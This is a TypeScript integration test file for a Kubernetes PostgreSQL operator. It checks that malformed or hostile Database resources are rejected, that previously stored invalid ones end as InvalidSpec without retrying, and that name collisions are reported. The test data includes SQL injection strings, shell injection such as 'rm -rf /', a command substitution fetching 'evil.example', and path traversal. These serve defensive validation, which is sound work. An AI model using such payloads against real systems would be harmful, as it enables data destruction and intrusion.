/**
 * Bad and hostile input on the real control plane: every malformed Database
 * is refused by the API server with a clear message, or — when it was stored
 * before the schema said no — ends as InvalidSpec without a retry loop, while
 * valid Databases beside it become Ready. Child-name collisions are reported,
 * never resolved by overwriting.
 */
import assert from "node:assert/strict";
import { stringify } from "yaml";
import type { Database } from "../lib/database/types.ts";
import { type LocalCluster, withCluster } from "./support/cluster.ts";
import {
  applyDatabases,
  CRD_PATH,
  databaseManifest,
  installCrd,
  startPgop,
} from "./support/pgop.ts";
import { queueIdle, settled } from "./support/settled.ts";
import { waitUntil } from "./support/wait.ts";

type Case = [what: string, object: Record<string, unknown>, message: RegExp];

const base = databaseManifest("x");
const spec = (over: Record<string, unknown>): Record<string, unknown> => ({
  ...base.spec,
  ...over,
});
const without = (key: string): Record<string, unknown> => {
  const s: Record<string, unknown> = { ...base.spec };
  delete s[key];
  return s;
};
const db = (
  name: string,
  s: unknown,
  extra: Record<string, unknown> = {},
): Record<string, unknown> => ({
  apiVersion: "database.example.com/v1",
  kind: "Database",
  metadata: { name, namespace: "default" },
  spec: s,
  ...extra,
});

/** Refused by the API server (schema, CEL, field validation). */
const refused: Case[] = [
  ["no spec", db("c1", undefined), /spec: Required value/],
  ["no image", db("c2", without("image")), /spec\.image: Required value/],
  ["no databaseName", db("c3", without("databaseName")), /spec\.databaseName: Required value/],
  ["no username", db("c4", without("username")), /spec\.username: Required value/],
  ["no storage", db("c5", without("storage")), /spec\.storage: Required value/],
  ["no storage.size", db("c6", spec({ storage: {} })), /spec\.storage\.size: Required value/],
  ["replicas as text", db("c7", spec({ replicas: "one" })), /spec\.replicas/],
  ["fractional replicas", db("c8", spec({ replicas: 1.5 })), /spec\.replicas/],
  ["negative replicas", db("c9", spec({ replicas: -1 })), /spec\.replicas/],
  ["too many replicas", db("c10", spec({ replicas: 11 })), /spec\.replicas/],
  ["huge replicas", db("c11", spec({ replicas: 1e12 })), /spec\.replicas/],
  ["image as number", db("c12", spec({ image: 42 })), /spec\.image/],
  ["databaseName as number", db("c13", spec({ databaseName: 7 })), /spec\.databaseName/],
  ["storage.size as boolean", db("c14", spec({ storage: { size: true } })), /spec\.storage\.size/],
  ["environment as number", db("c15", spec({ environment: 5 })), /spec\.environment/],
  ["spec as a list", db("c16", ["image"]), /spec/],
  ["very long image", db("c17", spec({ image: `postgres:${"1".repeat(600)}` })), /spec\.image/],
  [
    "64-character databaseName",
    db("c18", spec({ databaseName: "d".repeat(64) })),
    /spec\.databaseName/,
  ],
  ["100-character username", db("c19", spec({ username: "u".repeat(100) })), /spec\.username/],
  [
    "64-character environment",
    db("c20", spec({ environment: "e".repeat(64) })),
    /spec\.environment/,
  ],
  [
    "storage beyond 1Ei",
    db("c21", spec({ storage: { size: "999999999999999999999Gi" } })),
    /spec\.storage\.size/,
  ],
  [
    "SQL in databaseName",
    db("c22", spec({ databaseName: "db; DROP TABLE users" })),
    /spec\.databaseName/,
  ],
  ["SQL in username", db("c23", spec({ username: "admin' OR '1'='1" })), /spec\.username/],
  ["shell in image", db("c24", spec({ image: "postgres:14; rm -rf /" })), /spec\.image/],
  [
    "command substitution in image",
    db("c25", spec({ image: "$(curl evil.example)" })),
    /spec\.image/,
  ],
  ["newline in image", db("c26", spec({ image: "postgres:14\nevil" })), /spec\.image/],
  ["shell in environment", db("c27", spec({ environment: "prod;rm" })), /spec\.environment/],
  ["path in databaseName", db("c28", spec({ databaseName: "../etc" })), /spec\.databaseName/],
  [
    "reserved pg_ username",
    db("c29", spec({ username: "pg_admin" })),
    /username must not start with pg_/,
  ],
  ["role keyword username", db("c30", spec({ username: "public" })), /spec\.username/],
  ["template database", db("c31", spec({ databaseName: "template0" })), /template database/],
  ["upper-case databaseName", db("c32", spec({ databaseName: "Db1" })), /spec\.databaseName/],
  ["username starting with a digit", db("c33", spec({ username: "1admin" })), /spec\.username/],
  ["upper-case environment", db("c34", spec({ environment: "Production" })), /spec\.environment/],
  ["unknown spec field", db("c35", spec({ superuser: true })), /unknown field "spec\.superuser"/],
  [
    "unknown storage field",
    db("c36", spec({ storage: { size: "1Gi", class: "fast" } })),
    /unknown field/,
  ],
  ["unknown top-level field", db("c37", spec({}), { extra: 1 }), /unknown field "extra"/],
  ["zero storage", db("c38", spec({ storage: { size: "0" } })), /spec\.storage\.size/],
  ["negative storage", db("c39", spec({ storage: { size: "-1Gi" } })), /spec\.storage\.size/],
  [
    "storage with a bad suffix",
    db("c40", spec({ storage: { size: "10Gb" } })),
    /spec\.storage\.size/,
  ],
  ["fractional storage", db("c41", spec({ storage: { size: "1.5Gi" } })), /spec\.storage\.size/],
  ["storage with a space", db("c42", spec({ storage: { size: "10 Gi" } })), /spec\.storage\.size/],
  ["empty storage", db("c43", spec({ storage: { size: "" } })), /spec\.storage\.size/],
  ["empty image", db("c44", spec({ image: "" })), /spec\.image/],
  ["53-character name", db("n".repeat(53), spec({})), /metadata\.name|must be no more than/],
  ["upper-case name", db("Db-One", spec({})), /a lowercase RFC 1123|metadata\.name/],
  ["dotted name", db("db.one", spec({})), /metadata\.name/],
  ["name starting with a digit", db("1db", spec({})), /metadata\.name/],
  ["null byte in username", db("c49", spec({ username: "adm\u0000in" })), /spec\.username|invalid/],
  ["unicode lookalike in username", db("c50", spec({ username: "аdmin" })), /spec\.username/],
  ["hyphen in databaseName", db("c51", spec({ databaseName: "my-db" })), /spec\.databaseName/],
];

/** Changes that the CEL rules refuse on an existing Database. */
const refusedUpdates: Case[] = [
  ["databaseName change", { spec: { databaseName: "other" } }, /databaseName is immutable/],
  ["username change", { spec: { username: "other" } }, /username is immutable/],
  ["storage shrink", { spec: { storage: { size: "5Gi" } } }, /storage/],
];

async function expectRefused(cluster: LocalCluster, [what, object, message]: Case): Promise<void> {
  await assert.rejects(
    cluster.kubectl(["apply", "-f", "-"], { input: stringify(object) }),
    (e: Error) => message.test(e.message) || assert.fail(`${what}: unexpected error ${e.message}`),
    what,
  );
}

/** A CRD that accepts anything in spec: how Databases stored before a stricter schema came about. */
async function installPermissiveCrd(cluster: LocalCluster): Promise<void> {
  const crd = await Deno.readTextFile(CRD_PATH);
  const yaml = await import("yaml");
  const doc = yaml.parse(crd);
  const version = doc.spec.versions[0];
  version.schema.openAPIV3Schema.properties.spec = {
    type: "object",
    "x-kubernetes-preserve-unknown-fields": true,
  };
  version.selectableFields = [];
  await cluster.kubectl(["apply", "--server-side", "--force-conflicts", "-f", "-"], {
    input: yaml.stringify(doc),
  });
  await cluster.kubectl([
    "wait",
    "--for=condition=Established",
    "crd/databases.database.example.com",
  ]);
}

Deno.test("bad input: refused by the API server, or InvalidSpec without a retry loop", async (t) => {
  await withCluster({}, async (cluster) => {
    await t.step(
      `${refused.length} malformed or hostile Databases are refused with a clear message`,
      async () => {
        await installCrd(cluster);
        for (const c of refused) await expectRefused(cluster, c);
        assert.equal((await cluster.kubectl(["get", "databases", "-o", "name"])).trim(), "");
      },
    );

    await t.step("immutable fields and storage shrink are refused on update", async () => {
      await applyDatabases(cluster, [databaseManifest("immutable")]);
      for (const [what, change, message] of refusedUpdates) {
        await assert.rejects(
          cluster.kubectl([
            "patch",
            "database",
            "immutable",
            "--type=merge",
            "-p",
            JSON.stringify(change),
          ]),
          (e: Error) =>
            message.test(e.message) || assert.fail(`${what}: unexpected error ${e.message}`),
        );
      }
    });

    const stored = ["bad-replicas", "bad-user", "bad-size"];
    await t.step("Databases stored before the schema refused them end as InvalidSpec", async () => {
      await installPermissiveCrd(cluster);
      await applyDatabases(cluster, [
        databaseManifest("bad-replicas", { spec: { replicas: -3 } }),
        databaseManifest("bad-user", { spec: { username: "x'; DROP ROLE admin; --" } }),
        databaseManifest("bad-size", { spec: { storage: { size: "lots" } } }),
      ]);
      await installCrd(cluster);
      const pgop = await startPgop(cluster);
      try {
        await applyDatabases(cluster, [databaseManifest("good")]);
        await waitUntil("InvalidSpec on each, Ready on the valid one", async () => {
          const list = JSON.parse(await cluster.kubectl(["get", "databases", "-o", "json"]))
            .items as Database[];
          const by = new Map(list.map((d) => [d.metadata?.name, d]));
          const invalid = stored.every((n) => {
            const ready = by.get(n)?.status?.conditions?.find((c) => c.type === "Ready");
            return ready?.status === "False" && ready.reason === "InvalidSpec" &&
              by.get(n)?.status?.phase === "Failed";
          });
          return invalid && by.get("good")?.status?.phase === "Ready";
        });
        const list = JSON.parse(await cluster.kubectl(["get", "databases", "-o", "json"]))
          .items as Database[];
        const message = list.find((d) =>
          d.metadata?.name === "bad-size"
        )?.status?.conditions?.[0].message ?? "";
        assert.match(message, /spec\.storage\.size/);
        // No children for the invalid ones, and no retry loop: a terminal error is not requeued.
        for (const name of stored) {
          const children = await cluster.kubectl([
            "get",
            "statefulsets,services,secrets",
            "-l",
            `app.kubernetes.io/instance=${name}`,
            "-o",
            "name",
          ]);
          assert.equal(children.trim(), "", name);
        }
        const reconciles = async () =>
          Number(
            /database_reconcile_total\{result="terminal"\} (\d+)/.exec(await pgop.metrics.text())
              ?.[1],
          );
        await waitUntil("pgop's queue idle", () => queueIdle(pgop));
        const before = await reconciles();
        const version = await settled(pgop, cluster, "databases", `default/${stored[0]}`);
        assert.equal(
          await reconciles(),
          before,
          `terminal reconciles until the Database watch delivered ${version} and the queue was idle`,
        );
        assert.ok(before <= stored.length * 2, `terminal reconciles: ${before}`);
      } finally {
        await pgop.stop();
      }
    });
  });
});

Deno.test("child names taken by foreign objects are reported, never overwritten", async () => {
  await withCluster({ manifests: [CRD_PATH] }, async (cluster) => {
    await installCrd(cluster);
    // A user's own Secret with the name pgop would use, and a Database whose
    // StatefulSet and client Service would take another Database's headless Service name.
    await cluster.kubectl([
      "create",
      "secret",
      "generic",
      "taken-app",
      "--from-literal=password=users-own",
    ]);
    const pgop = await startPgop(cluster);
    try {
      await applyDatabases(cluster, [
        databaseManifest("taken"),
        databaseManifest("clash"),
        databaseManifest("clash-headless"),
      ]);
      await waitUntil("ChildConflict on taken, clash Ready", async () => {
        const list = JSON.parse(await cluster.kubectl(["get", "databases", "-o", "json"]))
          .items as Database[];
        const reason = (n: string) =>
          list.find((d) => d.metadata?.name === n)?.status?.conditions?.[0];
        return reason("taken")?.reason === "ChildConflict" && list.find((d) =>
              d.metadata?.name === "clash"
            )?.status?.phase === "Ready" &&
          reason("clash-headless")?.reason === "ChildConflict";
      });
      const secret = JSON.parse(
        await cluster.kubectl(["get", "secret", "taken-app", "-o", "json"]),
      );
      assert.equal(atob(secret.data.password), "users-own");
      assert.deepEqual(Object.keys(secret.data), ["password"]);
      assert.equal(secret.metadata.ownerReferences, undefined);
      const events = await cluster.kubectl([
        "get",
        "events",
        "--field-selector",
        "reason=ChildConflict",
        "-o",
        "name",
      ]);
      assert.ok(events.trim().length > 0, "a ChildConflict event");
    } finally {
      await pgop.stop();
    }
  });
});
